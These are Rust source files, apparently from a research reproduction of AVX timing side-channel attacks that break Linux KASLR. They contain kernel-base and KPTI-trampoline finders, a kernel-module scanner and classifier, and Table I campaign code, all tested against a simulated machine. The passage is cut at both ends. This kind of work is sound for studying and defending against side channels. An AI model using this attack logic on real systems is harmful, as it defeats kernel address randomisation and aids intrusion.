            &CpuProfile::alder_lake_i5_12400f(),
            config.with_defense(DefenseKind::Rerandomizing),
        );
        assert!(Scenario::UserSpace.defense_regions().is_empty());
        assert_eq!(plain.accuracy.rate(), defended.accuracy.rate());
        assert_eq!(plain.probes, defended.probes);
    }

    #[test]
    fn v2_observables_campaign_is_accurate_and_tagged() {
        let v1 = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        let v2 = intel_base_campaign(
            &CpuProfile::alder_lake_i5_12400f(),
            small().with_observables(ObservablesVersion::V2),
        );
        assert_eq!(v1.observables, "v1");
        assert_eq!(v2.observables, "v2");
        assert!(v1.to_string().contains("/v1]"), "{v1}");
        assert!(v2.to_string().contains("/v2]"), "{v2}");
        // The regimes are distribution-equivalent: the attack succeeds
        // under both, with the same probe accounting structure.
        assert!(v2.accuracy.rate() > 0.8, "{v2}");
        assert_eq!(v2.accuracy.total, v1.accuracy.total);
        assert!(v2.probes > 0);
    }

    #[test]
    fn cloud_campaign_threads_the_observables_regime() {
        let config = CampaignConfig::new(1, 11).with_observables(ObservablesVersion::V2);
        let row = Scenario::Cloud.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        assert_eq!(row.observables, "v2");
        assert!(row.accuracy.rate() > 0.6, "{row}");
    }

    #[test]
    fn campaign_trials_run_in_parallel_and_stay_deterministic() {
        let config = CampaignConfig::new(8, 42);
        let a = Scenario::KernelBase.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        let b = Scenario::KernelBase.campaign(&CpuProfile::alder_lake_i5_12400f(), config);
        assert_eq!(a.accuracy, b.accuracy);
        assert!((a.probing_seconds - b.probing_seconds).abs() < 1e-12);
        assert!((a.total_seconds - b.total_seconds).abs() < 1e-12);
    }
}
