//! Accuracy/runtime campaigns — the Table I methodology as an API.
//!
//! The paper's Table I reruns each attack over n = 10000 freshly
//! randomized systems ("we rebooted Linux 10 times…", §IV-B) and
//! reports average probing/total runtime plus accuracy. This module
//! packages that loop so benches, the `repro` binary and downstream
//! users measure identically.

use core::fmt;

use avx_os::linux::{LinuxConfig, LinuxSystem};
use avx_uarch::CpuProfile;

use crate::calibrate::Threshold;
use crate::prober::{Prober, SimProber};
use crate::report::fmt_seconds;
use crate::stats::Trials;

use super::kaslr::{AmdKernelBaseFinder, KernelBaseFinder};
use super::modules::ModuleScanner;

/// Campaign parameters.
#[derive(Clone, Copy, Debug)]
pub struct CampaignConfig {
    /// Fresh systems to attack (the paper uses 10000).
    pub trials: u64,
    /// First layout seed; trial *i* uses `seed0 + i`.
    pub seed0: u64,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        Self {
            trials: 100,
            seed0: 0,
        }
    }
}

/// One Table I row: averaged runtimes and the success rate.
#[derive(Clone, Debug)]
pub struct CampaignRow {
    /// CPU description.
    pub cpu: String,
    /// "Base" or "Modules".
    pub target: &'static str,
    /// Mean seconds inside the timed masked ops.
    pub probing_seconds: f64,
    /// Mean seconds including overhead.
    pub total_seconds: f64,
    /// Success tracker (per trial for bases, per module for modules).
    pub accuracy: Trials,
}

impl fmt::Display for CampaignRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} {}: {} probing / {} total / {:.2} %",
            self.cpu,
            self.target,
            fmt_seconds(self.probing_seconds),
            fmt_seconds(self.total_seconds),
            self.accuracy.percent()
        )
    }
}

/// Runs the Intel kernel-base attack over fresh systems.
#[must_use]
pub fn intel_base_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    let mut accuracy = Trials::new();
    let (mut probing, mut total) = (0.0f64, 0.0f64);
    for i in 0..config.trials {
        let seed = config.seed0 + i;
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
        let mut p = SimProber::new(machine);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        let scan = KernelBaseFinder::new(th).scan(&mut p);
        probing += scan.probing_cycles as f64 / (p.clock_ghz() * 1e9);
        total += scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
        accuracy.record(scan.base == Some(truth.kernel_base));
    }
    CampaignRow {
        cpu: profile.model.to_string(),
        target: "Base",
        probing_seconds: probing / config.trials as f64,
        total_seconds: total / config.trials as f64,
        accuracy,
    }
}

/// Runs the module detection attack; accuracy is per true module
/// exactly detected (base and size), as in §IV-C.
#[must_use]
pub fn intel_modules_campaign(profile: &CpuProfile, config: CampaignConfig) -> CampaignRow {
    let mut accuracy = Trials::new();
    let (mut probing, mut total) = (0.0f64, 0.0f64);
    for i in 0..config.trials {
        let seed = config.seed0 + 1000 + i;
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
        let mut p = SimProber::new(machine);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 16);
        let scan = ModuleScanner::new(th).scan(&mut p);
        probing += scan.probing_cycles as f64 / (p.clock_ghz() * 1e9);
        total += scan.total_cycles as f64 / (p.clock_ghz() * 1e9);
        for m in &truth.modules {
            accuracy.record(
                scan.detected
                    .iter()
                    .any(|d| d.base == m.base && d.size == m.spec.size),
            );
        }
    }
    CampaignRow {
        cpu: profile.model.to_string(),
        target: "Modules",
        probing_seconds: probing / config.trials as f64,
        total_seconds: total / config.trials as f64,
        accuracy,
    }
}

/// Runs the AMD level-based base attack over fresh systems.
#[must_use]
pub fn amd_base_campaign(config: CampaignConfig) -> CampaignRow {
    let profile = CpuProfile::zen3_ryzen5_5600x();
    let mut accuracy = Trials::new();
    let (mut probing, mut total) = (0.0f64, 0.0f64);
    for i in 0..config.trials {
        let seed = config.seed0 + 2000 + i;
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (machine, truth) = sys.into_machine(profile.clone(), seed ^ 0xabcd);
        let mut p = SimProber::new(machine);
        let before_probing = p.probing_cycles();
        let before_total = p.total_cycles();
        let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
        probing += (p.probing_cycles() - before_probing) as f64 / (p.clock_ghz() * 1e9);
        total += (p.total_cycles() - before_total) as f64 / (p.clock_ghz() * 1e9);
        accuracy.record(scan.base == Some(truth.kernel_base));
    }
    CampaignRow {
        cpu: profile.model.to_string(),
        target: "Base",
        probing_seconds: probing / config.trials as f64,
        total_seconds: total / config.trials as f64,
        accuracy,
    }
}

/// The full Table I: the five paper rows in order (12400F base/modules,
/// 1065G7 base/modules, 5600X base). Module rows cap trials at 20 —
/// each trial probes 16384 slots.
#[must_use]
pub fn table1(config: CampaignConfig) -> Vec<CampaignRow> {
    let module_config = CampaignConfig {
        trials: config.trials.min(20),
        ..config
    };
    vec![
        intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), config),
        intel_modules_campaign(&CpuProfile::alder_lake_i5_12400f(), module_config),
        intel_base_campaign(&CpuProfile::ice_lake_i7_1065g7(), config),
        intel_modules_campaign(&CpuProfile::ice_lake_i7_1065g7(), module_config),
        amd_base_campaign(config),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> CampaignConfig {
        CampaignConfig {
            trials: 6,
            seed0: 77,
        }
    }

    #[test]
    fn intel_base_campaign_reports_sane_numbers() {
        let row = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert_eq!(row.accuracy.total, 6);
        assert!(row.accuracy.rate() > 0.8);
        assert!(row.probing_seconds > 0.0);
        assert!(row.total_seconds > row.probing_seconds);
        assert!(row.total_seconds < 0.01, "sub-10ms attack");
    }

    #[test]
    fn module_campaign_counts_per_module() {
        let row = intel_modules_campaign(
            &CpuProfile::ice_lake_i7_1065g7(),
            CampaignConfig {
                trials: 2,
                seed0: 3,
            },
        );
        assert_eq!(row.accuracy.total, 2 * 125);
        assert!(row.accuracy.rate() > 0.95);
    }

    #[test]
    fn amd_campaign_slower_than_intel_desktop() {
        let amd = amd_base_campaign(small());
        let intel = intel_base_campaign(&CpuProfile::alder_lake_i5_12400f(), small());
        assert!(amd.total_seconds > intel.total_seconds);
        assert!(amd.accuracy.rate() > 0.8);
    }

    #[test]
    fn table1_has_five_rows_in_paper_order() {
        let rows = table1(CampaignConfig {
            trials: 2,
            seed0: 0,
        });
        assert_eq!(rows.len(), 5);
        assert_eq!(rows[0].target, "Base");
        assert_eq!(rows[1].target, "Modules");
        assert!(rows[4].cpu.contains("5600X"));
        // Display is informative.
        assert!(rows[0].to_string().contains("%"));
    }
}
