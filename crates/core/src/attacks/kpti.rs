//! KASLR break on KPTI-enabled kernels (§IV-D).
//!
//! With KPTI the kernel image is absent from the user page table, but
//! the KPTI *trampoline* (the syscall entry pages, `entry_SYSCALL_64`)
//! must stay mapped. Its offset from the kernel base is a build
//! constant (`0xc00000` on the paper's Ubuntu kernel, `0xe00000` on the
//! EC2 AWS kernel), so finding the only mapped pages in the kernel
//! region derandomizes the base.

use avx_mmu::VirtAddr;
use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};

use crate::adaptive::AdaptiveSampler;
use crate::calibrate::Threshold;
use crate::decision::{ConfirmConfig, Confirmer};
use crate::primitives::PageTableAttack;
use crate::prober::Prober;
use crate::recal::RecalConfig;

use super::kaslr::PER_SLOT_OVERHEAD_CYCLES;

/// How the scan arrived at its base — campaign rows use this to
/// distinguish a *confirmed* trampoline from a first-mapped-slot guess
/// made on ambiguous evidence.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum KptiConfidence {
    /// No slot classified mapped; there is no base.
    NoCandidate,
    /// Exactly one mapped slot — unambiguous even without confirmation.
    Unique,
    /// Multiple mapped slots; the first was taken on faith (the legacy
    /// first-wins rule, or a confirmation pass that rejected every
    /// candidate and fell back to it).
    GuessedFirst,
    /// The decision layer re-tested the selected slot and confirmed it.
    Confirmed,
}

/// Result of the trampoline hunt.
#[derive(Clone, Debug)]
pub struct KptiScan {
    /// All slots that classified as mapped (should be the trampoline
    /// slot only on a KPTI kernel).
    pub mapped_slots: Vec<u64>,
    /// The trampoline address, when found.
    pub trampoline: Option<VirtAddr>,
    /// The derived kernel base (`trampoline − offset`).
    pub base: Option<VirtAddr>,
    /// How the base was selected from the sweep evidence.
    pub confidence: KptiConfidence,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included).
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed.
    pub refits: u32,
}

impl KptiScan {
    /// `true` when the base rests on ambiguous, unconfirmed evidence.
    #[must_use]
    pub fn ambiguous(&self) -> bool {
        self.confidence == KptiConfidence::GuessedFirst
    }
}

/// The KPTI-trampoline attack.
#[derive(Clone, Copy, Debug)]
pub struct KptiAttack {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
    /// Known trampoline offset for the target kernel build.
    pub trampoline_offset: u64,
}

impl KptiAttack {
    /// Builds the attack for a given threshold and build constant.
    #[must_use]
    pub fn new(threshold: Threshold, trampoline_offset: u64) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
            trampoline_offset,
        }
    }

    /// Routes the sweep through the adaptive sequential engine.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Overrides the fixed probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Runs the sweep under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]).
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Re-tests candidate slots through the confirmation decision
    /// layer ([`crate::decision`]) instead of trusting the first
    /// mapped classification.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Scans the kernel region and derives the base from the first
    /// mapped slot — or, with [`KptiAttack::with_confirmation`], from
    /// the first slot that survives the confirmation protocol. The
    /// candidates are fed through the batched probe pipeline.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = super::kaslr::KernelBaseFinder::candidate_range();
        let start = range.start;
        let sweep = self.attack.sweep_range(p, &range);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let mapped_slots: Vec<u64> = sweep
            .mapped
            .iter()
            .enumerate()
            .filter(|(_, &m)| m)
            .map(|(i, _)| i as u64)
            .collect();
        let legacy_confidence = match mapped_slots.len() {
            0 => KptiConfidence::NoCandidate,
            1 => KptiConfidence::Unique,
            _ => KptiConfidence::GuessedFirst,
        };
        let mut confirm_probes = 0u64;
        let (slot, confidence) = match self.confirm {
            None => (mapped_slots.first().copied(), legacy_confidence),
            Some(config) => {
                let confirmer = Confirmer::new(&self.attack, config);
                let found = confirmer.first_confirmed(
                    p,
                    mapped_slots
                        .iter()
                        .map(|&slot| (slot, start.wrapping_add(slot * KASLR_ALIGN))),
                );
                confirm_probes = found.probes;
                match found.slot {
                    Some(slot) => (Some(slot), KptiConfidence::Confirmed),
                    // Every candidate failed its re-test: fall back to
                    // the legacy guess rather than return nothing.
                    None => (mapped_slots.first().copied(), legacy_confidence),
                }
            }
        };
        let trampoline = slot.map(|slot| start.wrapping_add(slot * KASLR_ALIGN));
        let base = trampoline
            .map(|t| VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset)));
        KptiScan {
            mapped_slots,
            trampoline,
            base,
            confidence,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes: sweep.probes + confirm_probes,
            refits: sweep.refits,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem, KPTI_TRAMPOLINE_OFFSET};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn kpti_prober(seed: u64, fixed: Option<u64>) -> (SimProber, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig {
            kpti: true,
            fixed_slide: fixed,
            ..LinuxConfig::seeded(seed)
        });
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        m.set_noise(NoiseModel::none());
        (SimProber::new(m), truth)
    }

    #[test]
    fn reproduces_the_section_iv_d_setup() {
        // Fixed base 0xffffffff81000000 (slot 8): the trampoline must be
        // found at 0xffffffff81c00000, exactly as the paper reports.
        let (mut p, truth) = kpti_prober(1, Some(8));
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
        let scan = attack.scan(&mut p);
        assert_eq!(
            scan.trampoline.map(|t| t.as_u64()),
            Some(0xffff_ffff_81c0_0000)
        );
        assert_eq!(scan.base, Some(truth.kernel_base));
    }

    #[test]
    fn randomized_kpti_kernels_are_derandomized() {
        for seed in [2, 3, 4] {
            let (mut p, truth) = kpti_prober(seed, None);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
            let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
            let scan = attack.scan(&mut p);
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn only_the_trampoline_slot_is_mapped() {
        let (mut p, truth) = kpti_prober(5, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET);
        let scan = attack.scan(&mut p);
        assert_eq!(scan.mapped_slots.len(), 1, "KPTI leaves one visible slot");
        assert_eq!(scan.trampoline, truth.trampoline);
    }

    #[test]
    fn adaptive_kpti_scan_matches_fixed_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        let (mut p, truth) = kpti_prober(7, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let fixed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        let adaptive = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
            .scan(&mut p);
        assert_eq!(adaptive.base, Some(truth.kernel_base));
        assert_eq!(adaptive.mapped_slots, fixed.mapped_slots);
        assert!(adaptive.probes > 0 && fixed.probes > 0);
    }

    #[test]
    fn unambiguous_scans_report_unique_confidence() {
        let (mut p, truth) = kpti_prober(5, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let scan = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        assert_eq!(scan.mapped_slots.len(), 1);
        assert_eq!(scan.confidence, KptiConfidence::Unique);
        assert!(!scan.ambiguous());
    }

    #[test]
    fn confirmation_keeps_the_quiet_answer_and_upgrades_confidence() {
        let (mut p, truth) = kpti_prober(9, None);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let plain = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
        let confirmed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
            .with_confirmation(crate::decision::ConfirmConfig::default())
            .scan(&mut p);
        assert_eq!(confirmed.base, plain.base);
        assert_eq!(confirmed.base, Some(truth.kernel_base));
        assert_eq!(confirmed.confidence, KptiConfidence::Confirmed);
        assert!(
            confirmed.probes > plain.probes,
            "the re-test spends extra probes: {} vs {}",
            confirmed.probes,
            plain.probes
        );
    }

    #[test]
    fn wrong_offset_constant_yields_wrong_base() {
        // Sanity: the attack depends on knowing the build constant.
        let (mut p, truth) = kpti_prober(6, Some(8));
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let attack = KptiAttack::new(th, 0xe0_0000); // wrong for this build
        let scan = attack.scan(&mut p);
        assert_ne!(scan.base, Some(truth.kernel_base));
    }
}
