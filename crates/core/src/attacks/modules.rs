//! Kernel-module detection and identification (§IV-C, Fig. 5).
//!
//! Probes all 16384 4 KiB-aligned candidates of the module area,
//! extracts mapped runs (modules are separated by unmapped guard
//! pages), and classifies each run by correlating its size against the
//! `/proc/modules` database — unique sizes identify their module.

use avx_mmu::VirtAddr;
use avx_os::linux::{LoadedModule, MODULE_ALIGN, MODULE_REGION_START, MODULE_SLOTS};
use avx_os::modules::ModuleSpec;

use crate::adaptive::AdaptiveSampler;
use crate::calibrate::Threshold;
use crate::decision::{ConfirmConfig, Confirmer};
use crate::primitives::PageTableAttack;
use crate::prober::{ProbeStrategy, Prober};
use crate::recal::RecalConfig;
use crate::stats::Trials;
use crate::sweep::AddrRange;

/// Record-keeping overhead per probed page.
pub const PER_PAGE_OVERHEAD_CYCLES: u64 = 120;

/// One detected mapped run in the module area.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct DetectedModule {
    /// First mapped page of the run.
    pub base: VirtAddr,
    /// Run length in bytes.
    pub size: u64,
}

/// Result of scanning the module area.
#[derive(Clone, Debug)]
pub struct ModuleScan {
    /// Per-page mapped classification (16384 entries).
    pub page_mapped: Vec<bool>,
    /// Extracted mapped runs.
    pub detected: Vec<DetectedModule>,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included).
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed.
    pub refits: u32,
}

/// The module-area scanner.
#[derive(Clone, Copy, Debug)]
pub struct ModuleScanner {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
}

impl ModuleScanner {
    /// Builds a scanner; uses a min-of-2 strategy because a single spike
    /// would otherwise split a module into two runs.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        let mut attack = PageTableAttack::new(threshold);
        attack.strategy = ProbeStrategy::MinOf(2);
        Self {
            attack,
            confirm: None,
        }
    }

    /// Re-tests each detected run's anchor page through the
    /// confirmation decision layer ([`crate::decision`]): phantom
    /// single-page runs from background false positives are dropped
    /// instead of entering the size-correlation database.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Routes the 16384-page sweep through the adaptive engine; the
    /// SPRT's spike clamping subsumes the min-of-2 rationale (no single
    /// disturbed reading can split a module run).
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Overrides the fixed probe strategy (default: min-of-2).
    #[must_use]
    pub fn with_strategy(mut self, strategy: ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Runs the 16384-page sweep under the closed-loop recalibration
    /// driver ([`crate::recal::Recalibrating`]).
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// The 16384-page candidate range of the §IV-C scan.
    #[must_use]
    pub fn candidate_range() -> AddrRange {
        AddrRange::new(
            VirtAddr::new_truncate(MODULE_REGION_START),
            MODULE_ALIGN,
            MODULE_SLOTS,
        )
    }

    /// Scans the whole module area through the batched probe pipeline.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> ModuleScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = Self::candidate_range();
        let start = range.start;
        let sweep = self.attack.sweep_range(p, &range);
        p.spend(MODULE_SLOTS * PER_PAGE_OVERHEAD_CYCLES);
        let mut detected = extract_runs(&sweep.mapped, start);
        let mut confirm_probes = 0u64;
        if let Some(config) = self.confirm {
            let confirmer = Confirmer::new(&self.attack, config);
            detected.retain(|module| {
                let retest = confirmer.confirm_mapped(p, module.base);
                confirm_probes += retest.probes;
                retest.confirmed
            });
        }
        ModuleScan {
            page_mapped: sweep.mapped,
            detected,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes: sweep.probes + confirm_probes,
            refits: sweep.refits,
        }
    }
}

/// Converts the page bitmap into base/size runs.
fn extract_runs(page_mapped: &[bool], start: VirtAddr) -> Vec<DetectedModule> {
    let mut runs = Vec::new();
    let mut run_start: Option<usize> = None;
    for (i, &mapped) in page_mapped.iter().enumerate() {
        match (mapped, run_start) {
            (true, None) => run_start = Some(i),
            (false, Some(s)) => {
                runs.push(DetectedModule {
                    base: start.wrapping_add(s as u64 * MODULE_ALIGN),
                    size: (i - s) as u64 * MODULE_ALIGN,
                });
                run_start = None;
            }
            _ => {}
        }
    }
    if let Some(s) = run_start {
        runs.push(DetectedModule {
            base: start.wrapping_add(s as u64 * MODULE_ALIGN),
            size: (page_mapped.len() - s) as u64 * MODULE_ALIGN,
        });
    }
    runs
}

/// One identification: a detected run plus the database modules whose
/// size matches. A single candidate = identified (unique size).
#[derive(Clone, Debug)]
pub struct Identification<'a> {
    /// The detected run.
    pub detected: DetectedModule,
    /// All size-compatible database entries.
    pub candidates: Vec<&'a ModuleSpec>,
}

impl Identification<'_> {
    /// `Some(name)` when the size is unique in the database.
    #[must_use]
    pub fn unique_name(&self) -> Option<&'static str> {
        match self.candidates.as_slice() {
            [only] => Some(only.name),
            _ => None,
        }
    }
}

/// Size-correlation classifier over a `/proc/modules` database.
#[derive(Clone, Copy, Debug)]
pub struct ModuleClassifier<'a> {
    db: &'a [ModuleSpec],
}

impl<'a> ModuleClassifier<'a> {
    /// Builds a classifier over the database.
    #[must_use]
    pub fn new(db: &'a [ModuleSpec]) -> Self {
        Self { db }
    }

    /// Classifies every detected run.
    #[must_use]
    pub fn classify(&self, scan: &ModuleScan) -> Vec<Identification<'a>> {
        scan.detected
            .iter()
            .map(|&detected| Identification {
                detected,
                candidates: self.db.iter().filter(|m| m.size == detected.size).collect(),
            })
            .collect()
    }
}

/// Accuracy of one scan against ground truth.
#[derive(Clone, Copy, Debug, Default)]
pub struct ModuleScore {
    /// True modules whose base and size were both detected exactly.
    pub exact: Trials,
    /// Unique-size true modules that were correctly named.
    pub identified: Trials,
}

/// Scores a scan + classification against the ground truth placement.
#[must_use]
pub fn score(
    scan: &ModuleScan,
    identifications: &[Identification<'_>],
    truth: &[LoadedModule],
) -> ModuleScore {
    let mut s = ModuleScore::default();
    for m in truth {
        let exact = scan
            .detected
            .iter()
            .any(|d| d.base == m.base && d.size == m.spec.size);
        s.exact.record(exact);
    }
    // Unique-size truth modules: is there an identification naming them
    // at the right base?
    for m in truth {
        let unique = truth.iter().filter(|o| o.spec.size == m.spec.size).count() == 1;
        if !unique {
            continue;
        }
        let named = identifications
            .iter()
            .any(|id| id.detected.base == m.base && id.unique_name() == Some(m.spec.name));
        s.identified.record(named);
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_os::modules::UBUNTU_18_04_MODULES;
    use avx_uarch::{CpuProfile, NoiseModel};

    fn run(seed: u64, noise: bool) -> (ModuleScan, Vec<LoadedModule>, SimProber) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), seed);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let scan = ModuleScanner::new(th).scan(&mut p);
        (scan, truth.modules, p)
    }

    #[test]
    fn detects_all_modules_exactly_without_noise() {
        let (scan, truth, _) = run(1, false);
        assert_eq!(scan.detected.len(), truth.len());
        for (d, t) in scan.detected.iter().zip(truth.iter()) {
            assert_eq!(d.base, t.base, "{}", t.spec.name);
            assert_eq!(d.size, t.spec.size, "{}", t.spec.name);
        }
    }

    #[test]
    fn confirmed_scan_keeps_every_true_module() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(7));
        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), 7);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let plain = ModuleScanner::new(th).scan(&mut p);
        let confirmed = ModuleScanner::new(th)
            .with_confirmation(ConfirmConfig::default())
            .scan(&mut p);
        assert_eq!(confirmed.detected, plain.detected);
        assert_eq!(confirmed.detected.len(), truth.modules.len());
        assert!(confirmed.probes > plain.probes, "anchor re-tests billed");
    }

    #[test]
    fn classification_identifies_unique_sizes_only() {
        let (scan, truth, _) = run(2, false);
        let classifier = ModuleClassifier::new(&UBUNTU_18_04_MODULES);
        let ids = classifier.classify(&scan);
        let s = score(&scan, &ids, &truth);
        assert_eq!(s.exact.total, 125);
        assert_eq!(s.exact.successes, 125);
        assert_eq!(s.identified.total, 19, "19 unique-size modules");
        assert_eq!(s.identified.successes, 19);
    }

    #[test]
    fn fig5_names_resolved_correctly() {
        let (scan, truth, _) = run(3, false);
        let classifier = ModuleClassifier::new(&UBUNTU_18_04_MODULES);
        let ids = classifier.classify(&scan);
        // video/mac_hid/pinctrl_icelake are identified...
        for name in ["video", "mac_hid", "pinctrl_icelake"] {
            let t = truth.iter().find(|m| m.spec.name == name).unwrap();
            let id = ids
                .iter()
                .find(|id| id.detected.base == t.base)
                .expect("detected");
            assert_eq!(id.unique_name(), Some(name));
        }
        // ...autofs4/x_tables collide at 0xB000.
        let autofs = truth.iter().find(|m| m.spec.name == "autofs4").unwrap();
        let id = ids
            .iter()
            .find(|id| id.detected.base == autofs.base)
            .expect("detected");
        assert_eq!(id.unique_name(), None);
        assert!(id.candidates.len() >= 2);
    }

    #[test]
    fn accuracy_stays_high_under_noise() {
        let (scan, truth, _) = run(4, true);
        let classifier = ModuleClassifier::new(&UBUNTU_18_04_MODULES);
        let ids = classifier.classify(&scan);
        let s = score(&scan, &ids, &truth);
        assert!(
            s.exact.rate() > 0.97,
            "exact-detection accuracy {}",
            s.exact
        );
    }

    #[test]
    fn extract_runs_handles_edges() {
        let start = VirtAddr::new_truncate(MODULE_REGION_START);
        // Run at the very end of the bitmap.
        let mut pages = vec![false; 8];
        pages[6] = true;
        pages[7] = true;
        let runs = extract_runs(&pages, start);
        assert_eq!(runs.len(), 1);
        assert_eq!(runs[0].size, 2 * MODULE_ALIGN);
        // Adjacent runs separated by a single guard page.
        let pages = vec![true, false, true];
        let runs = extract_runs(&pages, start);
        assert_eq!(runs.len(), 2);
        assert_eq!(runs[0].base, start);
        assert_eq!(runs[1].base, start.wrapping_add(2 * MODULE_ALIGN));
    }

    #[test]
    fn runtime_accounting_present() {
        let (scan, _, _) = run(5, false);
        assert!(scan.probing_cycles > 0);
        assert!(scan.total_cycles > scan.probing_cycles);
        assert_eq!(
            scan.probes,
            avx_os::linux::MODULE_SLOTS
                * u64::from(ProbeStrategy::MinOf(2).probes_per_measurement())
        );
    }

    #[test]
    fn adaptive_module_scan_detects_exactly_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        let sys = LinuxSystem::build(LinuxConfig::seeded(6));
        let (mut m, truth) = sys.into_machine(CpuProfile::ice_lake_i7_1065g7(), 6);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);

        let fixed = {
            let mut scanner = ModuleScanner::new(th);
            scanner.attack.strategy = ProbeStrategy::MinOf(8);
            scanner.scan(&mut p)
        };
        let adaptive = ModuleScanner::new(th)
            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
            .scan(&mut p);
        assert_eq!(adaptive.page_mapped, fixed.page_mapped);
        assert_eq!(adaptive.detected.len(), truth.modules.len());
        for (d, t) in adaptive.detected.iter().zip(truth.modules.iter()) {
            assert_eq!(d.base, t.base, "{}", t.spec.name);
